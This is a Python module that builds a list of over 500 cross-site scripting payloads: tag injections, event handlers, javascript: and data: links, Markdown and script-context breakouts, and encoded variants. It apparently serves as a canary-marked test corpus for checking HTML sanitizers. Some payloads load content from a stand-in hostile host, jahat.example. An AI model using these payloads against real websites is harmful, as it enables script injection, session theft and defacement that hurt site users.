"""Text that becomes alive wherever it is written into a page without care: more than 500 ways.

Each way marks what it manages to plant: a tag `kenari-x`, an attribute `data-kenari`, or a call of
`kenari()`. So a page is guilty by what its parsed tree holds, whether or not anything ran.
"""

from __future__ import annotations

import html
from collections.abc import Iterator
from itertools import product
from urllib.parse import quote

CALL = "kenari()"
# Ways out of where a value may stand: text, attribute values, comments, scripts, styles, titles.
EXITS = (
    "", '">', "'>", "\">'>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>",
    "</select>", "</option>", "</svg>", "</template>", "</noscript>", "`>", "%22%3E", "&quot;>",
)  # fmt: skip
PLANTS = (
    "<kenari-x>", "<img data-kenari src=x onerror=kenari()>", "<svg data-kenari onload=kenari()>",
    "<script data-kenari>kenari()</script>", "<a data-kenari href=javascript:kenari()>a</a>",
    "<iframe data-kenari srcdoc='<script>parent.kenari()</script>'>",
    "<details data-kenari open ontoggle=kenari()>", "<math><mi data-kenari xlink:href=javascript:kenari()>",
    "<body data-kenari onpageshow=kenari()>", "<form data-kenari action=javascript:kenari()><button>",
    "<object data-kenari data=javascript:kenari()>", "<base data-kenari href=//jahat.example/>",
    "<meta data-kenari http-equiv=refresh content=0;url=javascript:kenari()>",
    "<style data-kenari>@import'//jahat.example'</style>", "<link data-kenari rel=stylesheet href=//x>",
    "<video data-kenari><source onerror=kenari()></video>", "<kenari-x/onclick=kenari()>",
    "<input data-kenari autofocus onfocus=kenari()>", "<marquee data-kenari onstart=kenari()>",
    "<svg><animate data-kenari onbegin=kenari() attributeName=x dur=1s>",
)  # fmt: skip
INSIDE = (
    '" data-kenari onmouseover="kenari()', "' data-kenari onmouseover='kenari()",
    '" data-kenari autofocus onfocus="kenari()', "` data-kenari onload=`kenari()",
    " data-kenari onclick=kenari() ", '" data-kenari hx-on:click="kenari()',
    "' data-kenari style='animation:x", '"\n data-kenari\n x="', '"/data-kenari/onload="kenari()',
)  # fmt: skip
LINKS = (
    "javascript:kenari()", "JaVaScRiPt:kenari()", "java\tscript:kenari()", "java\nscript:kenari()",
    "\x01javascript:kenari()", " javascript:kenari()", "javascript&colon;kenari()",
    "&#106;avascript:kenari()", "vbscript:kenari()", "data:text/html,<script>kenari()</script>",
    "data:image/svg+xml,<svg onload=kenari()>", "//jahat.example/kenari()",
)  # fmt: skip
MARKDOWN = (
    "[a](javascript:kenari())", "![a](javascript:kenari())", "<javascript:kenari()>",
    "[a](<javascript:kenari()>)", "[a]: javascript:kenari()\n[a]", "[a](data:text/html,kenari())",
    "<https://a.id/' data-kenari onclick='kenari()>", "**<kenari-x>**", "`<kenari-x>`",
    '[a](https://a.id/"onmouseover="kenari())', "> <kenari-x>", "    <kenari-x>",
)  # fmt: skip
SCRIPTS = (
    "';kenari();'", '";kenari();"', "`;kenari();`", "${kenari()}", "{{kenari()}}", "{%kenari%}",
    "</script><kenari-x>", "\\u003ckenari-x\\u003e", "\u2028kenari()", "*/kenari()/*", "-->kenari()",
)  # fmt: skip


def vectors() -> list[str]:
    """All of them, each once."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    yield from (way_out + plant for way_out, plant in product(EXITS, PLANTS))
    yield from INSIDE
    yield from LINKS
    yield from MARKDOWN
    yield from SCRIPTS
    for plant in PLANTS:
        yield plant.upper().replace("KENARI-X", "kenari-x").replace("DATA-KENARI", "data-kenari")
        yield html.escape(plant)  # alive only where somebody unescapes
        yield html.escape(html.escape(plant))
        yield quote(plant)
        yield plant.replace("<", "\uff1c").replace(">", "\uff1e")  # alive only after normalising
        yield plant.replace("<", "<\x0c")
        yield f"<<{plant}"
